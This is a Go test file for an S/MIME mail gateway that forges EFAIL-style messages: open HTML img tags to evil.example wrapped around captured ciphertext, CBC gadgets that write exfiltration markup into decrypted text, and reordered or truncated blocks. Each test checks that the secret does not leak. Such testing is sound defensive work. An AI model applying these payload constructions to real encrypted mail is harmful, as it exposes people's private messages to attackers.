package attack_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"paperknife/test/testpki"
)

const secret = "SECRET-7f3a"

// A capture is an EnvelopedData of somebody else's, taken apart: what an attacker on the way has.
type capture struct {
	recipients []byte // recipientInfos, the SET
	algorithm  []byte // content of contentEncryptionAlgorithm without the IV
	blocks     [][]byte
}

// captured has openssl encrypt a text to our certificate, and takes the message apart. blocks[0] is the IV.
func (l *lab) captured(t *testing.T, entity string) capture {
	t.Helper()
	p := testpki.Shared(t)
	args := []string{"cms", "-encrypt", "-binary", "-outform", "DER", "-aes-256-cbc", l.site.Path("dca.pem")}
	der, err := p.OpenSSL([]byte(entity), args...)
	if err != nil {
		t.Fatal(err)
	}
	_, content, _ := tlv(der)            // ContentInfo
	_, _, rest := tlv(content)           // contentType
	_, explicit, _ := tlv(rest)          // [0]
	_, enveloped, _ := tlv(explicit)     // EnvelopedData
	_, _, rest = tlv(enveloped)          // version
	set, _, rest := tlv(rest)            // recipientInfos
	_, encrypted, _ := tlv(rest)         // encryptedContentInfo
	_, _, rest = tlv(encrypted)          // contentType
	_, algorithm, rest := tlv(rest)      // contentEncryptionAlgorithm
	oid, _, parameters := tlv(algorithm) // and its IV
	_, iv, _ := tlv(parameters)          //
	_, ciphertext, _ := tlv(rest)        // [0]
	c := capture{recipients: set, algorithm: oid, blocks: [][]byte{iv}}
	for b := range slices.Chunk(ciphertext, 16) {
		c.blocks = append(c.blocks, b)
	}
	return c
}

// tlv returns the first element of DER, its content, and what follows it.
func tlv(der []byte) (whole, content, rest []byte) {
	n, at := int(der[1]), 2
	if n >= 0x80 {
		at += n - 0x80
		n = 0
		for _, o := range der[2:at] {
			n = n<<8 | int(o)
		}
	}
	return der[:at+n], der[at : at+n], der[at+n:]
}

// der returns one element.
func der(tag byte, parts ...[]byte) []byte {
	content := slices.Concat(parts...)
	n := len(content)
	head := []byte{tag, 0x83, byte(n >> 16), byte(n >> 8), byte(n)}
	switch {
	case n < 0x80:
		head = []byte{tag, byte(n)}
	case n < 0x100:
		head = []byte{tag, 0x81, byte(n)}
	case n < 0x10000:
		head = []byte{tag, 0x82, byte(n >> 8), byte(n)}
	}
	return append(head, content...)
}

// entity puts a capture together again with other blocks, the first of which is the IV.
func (c capture) entity(blocks [][]byte) []byte {
	data := []byte{6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 1}
	enveloped := []byte{6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 3}
	info := der(0x30, data, der(0x30, c.algorithm, der(4, blocks[0])), der(0x80, slices.Concat(blocks[1:]...)))
	object := der(0x30, enveloped, der(0xa0, der(0x30, []byte{2, 1, 0}, c.recipients, info)))
	var b strings.Builder
	b.WriteString("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	for line := range slices.Chunk([]byte(base64.StdEncoding.EncodeToString(object)), 64) {
		b.Write(line)
		b.WriteString("\r\n")
	}
	return []byte(b.String())
}

func xor(a, b, c []byte) []byte {
	out := make([]byte, len(a))
	for i := range a {
		out[i] = a[i] ^ b[i] ^ c[i]
	}
	return out
}

// gadget returns two blocks that decrypt to 16 octets nobody knows and to text: block i of the capture, whose plaintext
// the attacker knows, gives the key stream.
func (c capture) gadget(i int, known, text string) [][]byte {
	return [][]byte{xor(c.blocks[i-1], []byte(known), fmt.Appendf(nil, "%-16s", text)), c.blocks[i]}
}

// sealedTight fails when the secret, or anything else from inside, got out.
func (l *lab) sealedTight(t *testing.T, entity []byte) {
	t.Helper()
	for _, class := range classes {
		d := l.deliver(t, from(eveAddress, entity), class)
		if bytes.Contains(d.raw, []byte(secret)) || bytes.Contains(d.raw, []byte("charset=us-ascii")) {
			t.Errorf("%s: plaintext got out:\n%s", class, d.raw)
		}
		if d.passed() {
			t.Errorf("%s: passes: %+v", class, d.results)
		}
	}
}

// letter is the captured mail: 64 octets that everybody's mails begin with, then the secret.
const letter = "Content-Type: text/html; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n<p>" + secret + ", " + secret + ", " + secret + "</p>\r\n"

// THREATS A01: the captured ciphertext between two parts of the attacker's, in every place a reader may open it.
func TestA01DirectExfiltration(t *testing.T) {
	l := theLab(t)
	c := l.captured(t, letter)
	p7m := string(c.entity(c.blocks))
	html := "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
	for _, kind := range []string{"mixed", "alternative", "related", "encrypted", "signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256"} {
		entity := fmt.Sprintf("Content-Type: multipart/%s; boundary=b\r\n\r\n--b\r\n%s\r\n--b\r\n%s\r\n--b\r\n%s\r\n--b--\r\n", kind, html, p7m, html)
		l.sealedTight(t, []byte(entity))
		entity = fmt.Sprintf("Content-Type: multipart/%s; boundary=b\r\n\r\n--b\r\n%s\r\n--b\r\n%s\r\n--b--\r\n", kind, p7m, html)
		l.sealedTight(t, []byte(entity))
		entity = fmt.Sprintf("Content-Type: multipart/%s; boundary=b\r\n\r\n--b\r\n%s\r\n--b\r\n%s\r\n--b\r\n%s\r\n--b--\r\n", kind, p7m, brokenSignature, html)
		l.sealedTight(t, []byte(entity))
		entity = fmt.Sprintf("Content-Type: multipart/%s; boundary=b\r\n\r\n%s\r\n--b\r\n%s\r\n--b\r\n%s\r\n--b--\r\n%s", kind, html, p7m, brokenSignature, html)
		l.sealedTight(t, []byte(entity))
	}
	l.sealedTight(t, []byte("Content-Type: message/rfc822\r\n\r\n"+string(from(eveAddress, []byte(p7m)))))
	l.sealedTight(t, []byte("Content-Type: application/octet-stream; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIC"))
}

// THREATS A04: gadgets of the EFAIL paper on a message that openssl made. Each brings 16 octets of noise.
func TestA04Gadgets(t *testing.T) {
	l := theLab(t)
	c := l.captured(t, letter)
	known := letter[:16]
	if d := l.deliver(t, from(eveAddress, c.entity(c.blocks)), "incapable"); !bytes.Contains(d.raw, []byte(secret)) {
		t.Fatalf("the letter itself is not opened:\n%s", d.raw)
	}
	for name, blocks := range map[string][][]byte{
		"html before the body": slices.Concat(c.blocks[:5], c.gadget(1, known, "<img src='http:/"), c.gadget(1, known, "/evil.example/  "), c.blocks[5:]),
		"html at the end":      slices.Concat(c.blocks, c.gadget(1, known, "<img src='//evil"), c.gadget(1, known, "'>"+strings.Repeat("\x0e", 14))),
		"a new header":         slices.Concat([][]byte{xor(c.blocks[0], []byte(known), []byte("Content-Type: te"))}, c.blocks[1:2], c.gadget(1, known, "\r\nContent-Type: "), c.blocks[2:]),
		"comments take noise":  slices.Concat(c.blocks[:1], c.gadget(1, known, "Content-Type:a/("), c.gadget(1, known, ")b;c=\"          "), c.gadget(1, known, "\"\r\n\r\n<a href=ev"), c.blocks[1:]),
		"first block alone":    slices.Concat([][]byte{xor(c.blocks[0], []byte(known), []byte("Content-Typo: te"))}, c.blocks[1:]),
	} {
		t.Run(name, func(t *testing.T) { l.sealedTight(t, c.entity(blocks)) })
	}
}

// THREATS A04: blocks that change places, are left out or come twice, inside text of every encoding.
func TestA04Rearranged(t *testing.T) {
	l := theLab(t)
	a := l.newAgent(t)
	r := rand.New(rand.NewPCG(4, 4))
	bodies := map[string]string{
		"quoted-printable": strings.Repeat("=53ECRET=\r\n-7f3a and so on=3D=20\r\n", 30),
		"base64":           strings.Repeat("U0VDUkVULTdmM2EsIFNFQ1JFVC03ZjNhLCBTRUNSRVQtN2YzYQ==\r\n", 1) + strings.Repeat("QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\r\n", 30),
		"7bit":             strings.Repeat("SECRET-7f3a aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n", 30),
	}
	for encoding, body := range bodies {
		text := "Content-Type: text/plain\r\nContent-Transfer-Encoding: " + encoding + "\r\n\r\n" + body
		c := l.captured(t, text)
		for range 300 {
			blocks := slices.Clone(c.blocks)
			i, j := 1+r.IntN(len(blocks)-1), 1+r.IntN(len(blocks)-1)
			switch r.IntN(4) {
			case 0:
				blocks[i], blocks[j] = blocks[j], blocks[i]
			case 1:
				blocks = slices.Delete(blocks, min(i, j), max(i, j))
			case 2:
				blocks = slices.Insert(blocks, i, blocks[min(i, j):max(i, j)]...)
			case 3:
				blocks[i] = slices.Clone(blocks[i])
				blocks[i][r.IntN(16)] ^= 1 << r.IntN(7)
			}
			if slices.EqualFunc(blocks, c.blocks, bytes.Equal) {
				continue
			}
			d := l.filtered(t, a, from(eveAddress, c.entity(blocks)), "incapable")
			if bytes.Contains(d.raw, []byte("text/plain")) {
				t.Fatalf("%s: blocks that changed places were opened:\n%s", encoding, d.raw)
			}
		}
	}
}

// THREATS A04: what CBC content begins with can be cut off at any block, and 16 octets put in its place, without any
// noise. An attacker whose own words stand in the captured mail, whole and in front of what he wants, as in an answer
// above a quotation that is followed by the same in HTML, makes a new mail of the rest. In a multipart its delimiters
// tell. A single part in which the secret stands behind the attacker's words is a known limit: the results say that
// nobody signed it, and `unauthenticated = "keep"` for the partner keeps it shut.
func TestA04BeginningCutOff(t *testing.T) {
	l := theLab(t)
	const head = "Content-Type: te" // 16 octets
	bait := "xt/html\r\n\r\n<img src='http://evil.example/?"
	var quotation strings.Builder
	for range 16 { // one of them begins at a block
		quotation.WriteString("0123456789abcdef " + bait + "\r\n")
	}
	for text, limit := range map[string]bool{
		"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n\r\n" +
			quotation.String() + "--b\r\nContent-Type: text/html\r\n\r\n<p>" + secret + "</p>'>\r\n--b--\r\n": false,
		"Content-Type: multipart/mixed; boundary=\"=_boundary\"\r\n\r\n--=_boundary\r\nContent-Type: text/html\r\n\r\n" +
			quotation.String() + "<p>" + secret + "</p>'>\r\n--=_boundary--\r\n": false,
		"Content-Type: text/plain\r\n\r\n" + quotation.String() + secret + "\r\n": true,
	} {
		c := l.captured(t, text)
		at := strings.Index(text, bait)
		for at%16 != 0 {
			at += 1 + strings.Index(text[at+1:], bait)
		}
		block := at / 16 // blocks[block] is the ciphertext of the 16 octets before the bait
		iv := xor(c.blocks[block-1], []byte(text[at-16:at]), []byte(head))
		d := l.deliver(t, from(eveAddress, c.entity(slices.Concat([][]byte{iv}, c.blocks[block:]))), "incapable")
		if bytes.Contains(d.raw, []byte(secret)) != limit || d.passed() {
			t.Errorf("limit %v: delivered:\n%s", limit, d.raw)
		}
		whole := l.deliver(t, from(eveAddress, c.entity(c.blocks)), "incapable")
		if !bytes.Contains(whole.raw, []byte(secret)) {
			t.Errorf("the whole letter is not opened:\n%s", whole.raw)
		}
	}
}
